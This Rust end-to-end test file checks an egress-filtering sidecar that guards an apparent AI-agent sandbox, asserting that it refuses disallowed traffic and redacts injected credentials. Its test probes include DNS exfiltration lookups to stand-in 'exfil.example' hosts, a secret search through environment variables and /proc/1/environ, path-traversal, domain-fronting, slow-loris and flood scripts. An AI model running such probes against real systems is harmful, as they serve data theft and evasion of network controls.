//! End-to-end tests of the sidecar's egress from inside a live bottle, with
//! real clients (curl, python, getent) against a local echo origin on the
//! bottle's egress network, whose TLS certificate comes from a test CA the
//! sidecar is told to trust (`egress.upstream_roots`). Every refusal is
//! asserted exactly, next to an allowed request that shows the path works.

use bottle_e2e::*;

const SECRET: &str = "sk-e2e-SECRET-4242-do-not-leak";

/// What the agent sees where an origin echoes [`SECRET`] back: the sidecar's
/// same-length marker. Seeing it proves the origin received the real value
/// (the sidecar replaces only that value) without the agent learning it.
fn redacted() -> String {
    let mut m: String = "BOTTLE-REDACTED".chars().take(SECRET.len()).collect();
    while m.len() < SECRET.len() {
        m.push('*');
    }
    m
}

/// A bottle whose egress network holds the echo origin under several names.
/// Fields drop in order: the origin leaves the bottle's network before
/// `bottle down` removes it.
struct Setup {
    _origin: Container,
    b: Bottle,
    _pki: TempDir,
}

fn config(extra_allow: &[&str]) -> String {
    let mut allow = vec![
        "origin.test",
        "other.test",
        "api.test",
        "localhost",
        "private.test",
    ];
    allow.extend_from_slice(extra_allow);
    let mut private = vec!["origin.test", "other.test", "api.test"];
    private.extend_from_slice(extra_allow);
    let list = |v: &[&str]| {
        v.iter()
            .map(|s| format!("\"{s}\""))
            .collect::<Vec<_>>()
            .join(", ")
    };
    format!(
        "[egress]\n\
         allow = [{}]\n\
         allow_private = [{}]\n\
         upstream_roots = [\"test-ca.pem\"]\n\
         \n\
         [[egress.rule]]\n\
         host = \"api.test\"\n\
         methods = [\"GET\"]\n\
         paths = [\"/repos/acme/\"]\n\
         \n\
         [[egress.credential]]\n\
         host = \"origin.test\"\n\
         header = \"x-api-key\"\n\
         from_env = \"E2E_API_KEY\"\n",
        list(&allow),
        list(&private)
    )
}

fn setup(prefix: &str) -> Option<Setup> {
    if !engine_or_skip(prefix) {
        return None;
    }
    let pki = TempDir::new(&format!("{prefix}-pki"));
    let names = [
        "origin.test",
        "other.test",
        "api.test",
        "private.test",
        "late.test",
        "denied.test",
    ];
    test_pki(&pki.0, &names);
    let ca = std::fs::read(pki.0.join("ca.pem")).unwrap();
    let b = Bottle::up_with(
        prefix,
        &config(&[]),
        &[("test-ca.pem", &ca)],
        &[("E2E_API_KEY", SECRET)],
    );
    let origin = echo_origin(
        &format!("bottle-test-origin-{}", b.name),
        &format!("bottle-{}-egress", b.name),
        &names,
        &pki.0,
    );
    Some(Setup {
        b,
        _origin: origin,
        _pki: pki,
    })
}

/// The bottle's audit log, as the host reads it from the state dir.
fn audit_log(b: &Bottle) -> String {
    std::fs::read_to_string(
        b.state
            .0
            .join("bottle")
            .join(&b.name)
            .join("logs/egress.jsonl"),
    )
    .expect("audit log")
}

#[test]
fn intercepted_https_rules_credentials_and_guard() {
    let Some(s) = setup("tls") else { return };
    let b = &s.b;

    // Allowed host over HTTPS, verified with the bottle's CA (no -k anywhere).
    let text = sh_out(b, "curl -sS --max-time 10 https://origin.test/hello");
    let v = json_of(&text);
    assert_eq!(v["path"], "/hello", "{text}");

    // The credential: the agent holds a placeholder and sends it; the origin
    // receives the real value, and its echo of it comes back redacted.
    let placeholder = sh_out(b, "printf %s \"$E2E_API_KEY\"");
    assert!(
        placeholder.starts_with("bottle-placeholder-"),
        "{placeholder}"
    );
    let text = sh_out(
        b,
        "curl -sS --max-time 10 -H \"x-api-key: $E2E_API_KEY\" https://origin.test/cred",
    );
    assert_eq!(json_of(&text)["headers"]["x-api-key"], redacted(), "{text}");
    // Injected even when the agent sends nothing.
    let text = sh_out(b, "curl -sS --max-time 10 https://origin.test/cred2");
    assert_eq!(json_of(&text)["headers"]["x-api-key"], redacted(), "{text}");
    // The placeholder sent to another (allowed) host is refused, not forwarded.
    let text = sh_out(b, "curl -s --max-time 10 -w '\\nstatus=%{http_code}' -H \"authorization: Bearer $E2E_API_KEY\" https://other.test/x");
    assert!(text.contains("status=403"), "{text}");
    assert!(text.contains("placeholder-leak"), "{text}");
    // ...and the real value never went there either.
    let text = sh_out(b, "curl -sS --max-time 10 https://other.test/plain");
    assert!(!text.contains(SECRET), "{text}");

    // The secret is nowhere in the agent: env, pid 1's env, files.
    let text = sh_out(
        b,
        "env; tr '\\0' '\\n' </proc/1/environ; grep -rsl -- 'SECRET-4242' /etc /root /tmp /workspace /usr/local /var /home /opt; echo done",
    );
    assert!(text.ends_with("done\n"), "{text}");
    assert!(
        !text.contains(SECRET),
        "secret visible in the agent:\n{text}"
    );
    let inspect = docker(&["inspect", &format!("bottle-{}-agent", b.name)]);
    assert!(
        !stdout(&inspect).contains(SECRET),
        "secret in the agent's container config"
    );

    // Method/path rule on api.test.
    let code = |script: &str| sh_out(b, script).trim().to_string();
    assert_eq!(
        code("curl -s -o /dev/null -w '%{http_code}' https://api.test/repos/acme/app"),
        "200"
    );
    let text = sh_out(
        b,
        "curl -s -X POST -w '\\nstatus=%{http_code}' https://api.test/repos/acme/app",
    );
    assert!(text.contains("status=403"), "POST: {text}");
    assert_eq!(
        code("curl -s -o /dev/null -w '%{http_code}' https://api.test/repos/other/app"),
        "403"
    );
    assert_eq!(code("curl -s --path-as-is -o /dev/null -w '%{http_code}' https://api.test/repos/acme/../other"), "403");
    assert_eq!(code("curl -s --path-as-is -o /dev/null -w '%{http_code}' https://api.test/repos/acme/%2e%2e/other"), "403");

    // Not allowed, and allowed on the wrong port: refused at CONNECT.
    assert_eq!(
        code("curl -s -o /dev/null -w '%{http_connect}' https://denied.test/"),
        "403"
    );
    assert_eq!(
        code("curl -s -o /dev/null -w '%{http_connect}' https://origin.test:8443/"),
        "403"
    );

    // Host header that disagrees with the CONNECT authority / SNI.
    let text = sh_out(
        b,
        "curl -s -w '\\nstatus=%{http_code}' -H 'Host: other.test' https://origin.test/front",
    );
    assert!(text.contains("status=403"), "Host != SNI: {text}");
    assert!(
        !text.contains("\"path\""),
        "origin answered a fronted request: {text}"
    );

    // SNI that disagrees with the CONNECT authority.
    let text = sh_out(
        b,
        r#"python3 - <<'PY'
import os, socket, ssl
s = socket.create_connection((os.environ["BOTTLE_SIDECAR"], 3128), timeout=10)
s.sendall(b"CONNECT origin.test:443 HTTP/1.1\r\nHost: origin.test:443\r\n\r\n")
print("connect:", s.recv(4096).split(b"\r\n")[0].decode())
ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
try:
    t = ctx.wrap_socket(s, server_hostname="other.test")
    t.sendall(b"GET /sni HTTP/1.1\r\nHost: other.test\r\n\r\n")
    print("answer:", t.recv(4096)[:200])
except Exception as e:
    print("refused:", type(e).__name__)
PY"#,
    );
    assert!(text.contains("connect: HTTP/1.1 200"), "{text}");
    assert!(
        !text.contains("\"path\""),
        "SNI mismatch reached the origin: {text}"
    );

    // Bytes that are neither TLS nor HTTP inside an allowed tunnel are not piped.
    let text = sh_out(
        b,
        r#"python3 - <<'PY'
import os, socket
s = socket.create_connection((os.environ["BOTTLE_SIDECAR"], 3128), timeout=10)
s.sendall(b"CONNECT origin.test:80 HTTP/1.1\r\nHost: origin.test:80\r\n\r\n")
print("connect:", s.recv(4096).split(b"\r\n")[0].decode())
s.sendall(b"SSH-2.0-OpenSSH_9.6\r\n\x00\x01\x02 not http\r\n\r\n")
data = b""
try:
    while True:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
except Exception as e:
    print("err:", type(e).__name__)
print("got:", data[:300])
PY"#,
    );
    assert!(text.contains("connect: HTTP/1.1 200"), "{text}");
    assert!(
        !text.contains("Bad request")
            && !text.contains("Error response")
            && !text.contains("HTTP/1.0 400"),
        "raw bytes reached the origin: {text}"
    );

    // Destination guard: an allowed name resolving to loopback, and an allowed
    // name resolving to a private address without allow_private.
    let text = sh_out(
        b,
        "curl -s --noproxy '' -x \"$HTTP_PROXY\" -w '\\nstatus=%{http_code}' http://localhost/",
    );
    assert!(text.contains("status=403"), "loopback via proxy: {text}");
    let text = sh_out(
        b,
        "curl -s -w '\\nstatus=%{http_code}' http://private.test/",
    );
    assert!(
        text.contains("status=403"),
        "private without allow_private: {text}"
    );
    assert!(!text.contains("\"path\""), "{text}");
    let text = sh_out(
        b,
        "curl -s -o /dev/null -w '%{http_connect}' https://private.test/",
    );
    assert_eq!(text.trim(), "403", "private via CONNECT: {text}");

    // The audit log recorded decisions but never the secret.
    let log = audit_log(b);
    assert!(log.contains("\"host\":\"origin.test\""), "{log}");
    assert!(log.contains("placeholder-leak"), "{log}");
    assert!(!log.contains(SECRET), "secret in the audit log");
    let logs = b.bottle(&["logs", &b.name, "--service", "egress"]);
    assert!(stdout(&logs).contains("origin.test"), "{}", stderr(&logs));
}

#[test]
fn sidecar_dns_and_the_transparent_path() {
    let Some(s) = setup("dns") else { return };
    let b = &s.b;
    let sidecar = b.ip("sidecar", "internal");

    // Allowed names resolve to the sidecar; everything else gets no answer.
    let text = sh_out(b, "getent hosts origin.test");
    assert!(
        text.starts_with(&sidecar),
        "allowed name -> sidecar {sidecar}: {text}"
    );
    let text = sh_out(b, "getent hosts denied.test; echo \"exit=$?\"; getent hosts x7f3a9.exfil.example; echo \"exit=$?\"");
    assert_eq!(
        text.matches("exit=2").count(),
        2,
        "non-allowed names resolved: {text}"
    );
    let text = sh_out(b, "dig +short +tries=1 +time=3 @$BOTTLE_SIDECAR secret-data.exfil.example; dig +tries=1 +time=3 @$BOTTLE_SIDECAR secret-data.exfil.example | grep status");
    assert!(text.contains("REFUSED"), "{text}");

    // Clients that ignore the proxy variables: DNS sends them to the sidecar's
    // transparent listeners, under the same rules.
    let unset =
        "env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY -u all_proxy";
    let text = sh_out(
        b,
        &format!("{unset} curl -sS --max-time 10 https://origin.test/transparent"),
    );
    assert_eq!(json_of(&text)["path"], "/transparent", "{text}");
    let text = sh_out(
        b,
        &format!("{unset} curl -sS --max-time 10 http://other.test/plain80"),
    );
    assert_eq!(json_of(&text)["path"], "/plain80", "{text}");
    // A credential host is never reached in clear text, where the value would travel unencrypted.
    let text = sh_out(b, &format!("{unset} curl -s --max-time 10 -w '\\nstatus=%{{http_code}}' http://origin.test/plain80"));
    assert!(
        text.contains("status=403") && text.contains("credential-needs-tls"),
        "{text}"
    );
    // The credential is injected on the transparent path as well.
    assert_eq!(
        json_of(&sh_out(
            b,
            &format!("{unset} curl -sS --max-time 10 https://origin.test/c")
        ))["headers"]["x-api-key"],
        redacted()
    );
    // A denied name does not resolve, so there is nowhere to connect.
    let text = sh_out(
        b,
        &format!("{unset} curl -s --max-time 10 https://denied.test/; echo \"exit=$?\""),
    );
    assert!(text.contains("exit=6"), "{text}");
    // Forcing a denied name onto the transparent listener by address: SNI decides.
    let text = sh_out(b, &format!("{unset} curl -s --max-time 10 -w '\\nstatus=%{{http_code}}' --resolve denied.test:443:{sidecar} https://denied.test/"));
    assert!(!text.contains("\"path\""), "{text}");
    assert!(
        text.contains("status=403") && text.contains("default-deny"),
        "{text}"
    );
    let text = sh_out(b, &format!("{unset} curl -s --max-time 10 -w '\\nstatus=%{{http_code}}' --resolve denied.test:80:{sidecar} http://denied.test/"));
    assert!(text.contains("status=403"), "{text}");
}

#[test]
fn policy_reload_applies_without_restart() {
    let Some(s) = setup("reload") else { return };
    let b = &s.b;
    let started = |b: &Bottle| {
        stdout(&docker(&[
            "inspect",
            "-f",
            "{{.State.StartedAt}}",
            &format!("bottle-{}-sidecar", b.name),
        ]))
    };
    let before = started(b);
    let text = sh_out(
        b,
        "curl -s -o /dev/null -w '%{http_connect}' https://late.test/",
    );
    assert_eq!(text.trim(), "403", "late.test before reload: {text}");

    std::fs::write(
        b.dir.0.join("bottle.toml"),
        format!("name = \"{}\"\n{}", b.name, config(&["late.test"])),
    )
    .unwrap();
    let reload = |extra: &[&str]| {
        std::process::Command::new(bottle_bin())
            .args(["reload", &b.name])
            .args(extra)
            .current_dir(&b.dir.0)
            .env("XDG_STATE_HOME", &b.state.0)
            .env("E2E_API_KEY", SECRET)
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap()
    };
    // The file may have been written by the agent: a widening needs consent.
    let out = reload(&[]);
    assert_eq!(out.status.code(), Some(4), "refused: {}", stderr(&out));
    assert!(
        stderr(&out).contains("+ egress.allow gains `late.test`"),
        "{}",
        stderr(&out)
    );
    assert!(
        stderr(&out).contains("--accept-changes"),
        "{}",
        stderr(&out)
    );
    let text = sh_out(
        b,
        "curl -s -o /dev/null -w '%{http_connect}' https://late.test/",
    );
    assert_eq!(text.trim(), "403", "applied without consent: {text}");

    let out = reload(&["--accept-changes"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stderr(&out).contains("+[late.test]"), "{}", stderr(&out));

    let text = sh_out(b, "curl -sS --max-time 10 https://late.test/now");
    assert_eq!(json_of(&text)["path"], "/now", "{text}");
    assert_eq!(started(b), before, "the sidecar was restarted");

    // A reload with a bad file changes nothing and says why.
    std::fs::write(
        b.dir.0.join("bottle.toml"),
        format!("name = \"{}\"\n[egress]\nallow = [\"http://x\"]\n", b.name),
    )
    .unwrap();
    let out = b.bottle(&["reload", &b.name]);
    assert_eq!(out.status.code(), Some(2), "a config error");
    assert!(stderr(&out).contains("egress.allow[0]"), "{}", stderr(&out));
    let text = sh_out(b, "curl -sS --max-time 10 https://late.test/still");
    assert_eq!(json_of(&text)["path"], "/still", "{text}");
}

/// From a host address on the egress side, whether each sidecar port
/// accepts: `refused:PORT` / `open:PORT` / `other:PORT:WHY`, and whether DNS
/// answered a UDP query (`dns:answered` or `dns:<error>`). Run by python3
/// in a container.
fn probe_script(ip: &str) -> String {
    format!(
        r#"python3 - <<'PY'
import socket
ip = "{ip}"
for p in (3128, 53, 80, 443):
    s = socket.socket(); s.settimeout(3)
    try:
        s.connect((ip, p)); print(f"open:{{p}}")
    except ConnectionRefusedError:
        print(f"refused:{{p}}")
    except Exception as e:
        print(f"other:{{p}}:{{type(e).__name__}}")
q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06origin\x04test\x00\x00\x01\x00\x01"
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
u.sendto(q, (ip, 53))
try:
    u.recvfrom(512); print("dns:answered")
except Exception as e:
    print("dns:" + type(e).__name__)
PY"#
    )
}

fn assert_nothing_answers(from: &str, text: &str) {
    for p in [3128, 53, 80, 443] {
        assert!(
            text.contains(&format!("refused:{p}")),
            "{from}: port {p} of the sidecar's egress side must refuse: {text}"
        );
    }
    assert!(
        text.contains("dns:") && !text.contains("dns:answered"),
        "{from}: DNS answered on the egress side: {text}"
    );
}

#[test]
fn the_sidecar_serves_its_internal_side_only_and_echoes_come_back_redacted() {
    let Some(s) = setup("edge") else { return };
    let b = &s.b;
    let egress_side = b.ip("sidecar", "egress");
    let sidecar = format!("bottle-{}-sidecar", b.name);

    // A neighbour container on the bottle's egress network (the echo origin)
    // tries every sidecar port on the egress side: nothing is there.
    let out = docker(&[
        "exec",
        &s._origin.0,
        "sh",
        "-c",
        &probe_script(&egress_side),
    ]);
    assert_nothing_answers("neighbour", &format!("{}{}", stdout(&out), stderr(&out)));

    // The host, which has an address on the egress bridge, the same.
    let addr = |p: u16| std::net::SocketAddr::new(egress_side.parse().unwrap(), p);
    for p in [3128u16, 53, 80, 443] {
        let err = std::net::TcpStream::connect_timeout(&addr(p), std::time::Duration::from_secs(3))
            .expect_err("the host reached a sidecar port on the egress side");
        assert_eq!(
            err.kind(),
            std::io::ErrorKind::ConnectionRefused,
            "host -> {egress_side}:{p}: {err}"
        );
    }
    let udp = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    udp.set_read_timeout(Some(std::time::Duration::from_secs(2)))
        .unwrap();
    let q =
        b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06origin\x04test\x00\x00\x01\x00\x01";
    let _ = udp.send_to(q, addr(53));
    let mut buf = [0u8; 512];
    assert!(
        udp.recv_from(&mut buf).is_err(),
        "DNS answered the host on the egress side"
    );

    // The health check still finds the proxy, with no arguments, as the
    // lifecycle runs it.
    let out = docker(&["exec", &sidecar, "bottle-sidecar", "health"]);
    assert!(
        out.status.success(),
        "health: {}{}",
        stdout(&out),
        stderr(&out)
    );

    // From the agent, the proxy serves, and the origin's echo of the
    // injected credential comes back redacted, even when the agent asks for
    // a compressed answer.
    let text = sh_out(
        b,
        "curl -sS --compressed --max-time 10 -H \"x-api-key: $E2E_API_KEY\" https://origin.test/echo",
    );
    assert!(!text.contains(SECRET), "the credential came back: {text}");
    let v = json_of(&text);
    assert_eq!(v["headers"]["x-api-key"], redacted(), "{text}");
    assert_eq!(v["headers"]["accept-encoding"], "identity", "{text}");

    // A method override on a host whose rule allows only GET is refused,
    // naming the header and the rule; on a host without method rules the
    // same header passes.
    let text = sh_out(
        b,
        "curl -s --max-time 10 -w '\\nstatus=%{http_code}' -H 'X-HTTP-Method-Override: DELETE' https://api.test/repos/acme/app",
    );
    assert!(text.contains("status=403"), "{text}");
    assert!(text.contains("method-override"), "{text}");
    assert!(text.contains("x-http-method-override"), "{text}");
    assert!(text.contains("GET /repos/acme/"), "{text}");
    assert!(!text.contains("\"path\""), "the origin was reached: {text}");
    let text = sh_out(
        b,
        "curl -sS --max-time 10 -H 'X-HTTP-Method-Override: DELETE' https://other.test/override",
    );
    assert_eq!(
        json_of(&text)["headers"]["x-http-method-override"],
        "DELETE",
        "{text}"
    );

    // Slow clients and floods, from inside the agent, with short limits
    // applied live by a reload (narrower limits need no consent).
    std::fs::write(
        b.dir.0.join("bottle.toml"),
        format!(
            "name = \"{}\"\n{}[sidecar]\nhandshake_timeout = 2\nmax_connections_per_client = 8\n",
            b.name,
            config(&[])
        ),
    )
    .unwrap();
    let reload = std::process::Command::new(bottle_bin())
        .args(["reload", &b.name])
        .current_dir(&b.dir.0)
        .env("XDG_STATE_HOME", &b.state.0)
        .env("E2E_API_KEY", SECRET)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert!(reload.status.success(), "{}", stderr(&reload));
    // A slow-loris after an allowed CONNECT: one byte every half second,
    // never a whole TLS hello. The sidecar closes it at the deadline.
    let text = sh_out(
        b,
        r#"python3 - <<'PY'
import os, socket, time, urllib.parse
p = urllib.parse.urlparse(os.environ["HTTP_PROXY"])
s = socket.create_connection((p.hostname, p.port), timeout=30)
s.sendall(b"CONNECT origin.test:443 HTTP/1.1\r\nHost: origin.test:443\r\n\r\n")
head = s.recv(4096)
start = time.time()
s.settimeout(0.5)
closed = None
while time.time() - start < 20:
    try:
        s.send(b"\x16")
        if s.recv(1) == b"":
            closed = time.time() - start
            break
    except socket.timeout:
        continue
    except OSError:
        closed = time.time() - start
        break
print("connect", head.split(b"\r\n")[0].decode(), "closed-after", closed)
PY"#,
    );
    assert!(text.contains("connect HTTP/1.1 200"), "{text}");
    let after: f64 = text
        .split("closed-after ")
        .nth(1)
        .and_then(|t| t.trim().parse().ok())
        .unwrap_or_else(|| panic!("the slow client was never closed: {text}"));
    assert!(
        (1.0..10.0).contains(&after),
        "closed after {after} s: {text}"
    );
    // Eight connections held open, then a ninth request: refused by the
    // per-client cap, naming it; once they close, the proxy serves again.
    let text = sh_out(
        b,
        r#"python3 - <<'PY'
import os, socket, urllib.parse
p = urllib.parse.urlparse(os.environ["HTTP_PROXY"])
held = [socket.create_connection((p.hostname, p.port), timeout=5) for _ in range(8)]
s = socket.create_connection((p.hostname, p.port), timeout=5)
s.sendall(b"GET http://other.test/flood HTTP/1.1\r\nHost: other.test\r\n\r\n")
print("ninth:", s.recv(4096).decode(errors="replace").replace("\r\n", " | "))
for h in held: h.close()
PY
sleep 1; curl -s -o /dev/null -w 'after:%{http_code}\n' --max-time 10 http://other.test/after"#,
    );
    assert!(text.contains("ninth: HTTP/1.1 503"), "{text}");
    assert!(text.contains("max_connections_per_client"), "{text}");
    assert!(text.contains("after:200"), "{text}");

    // Redactions are audited by name only.
    let log = audit_log(b);
    assert!(log.contains("\"event\":\"credential-redacted\""), "{log}");
    assert!(log.contains("E2E_API_KEY"), "{log}");
    assert!(!log.contains(SECRET), "secret in the audit log");
}
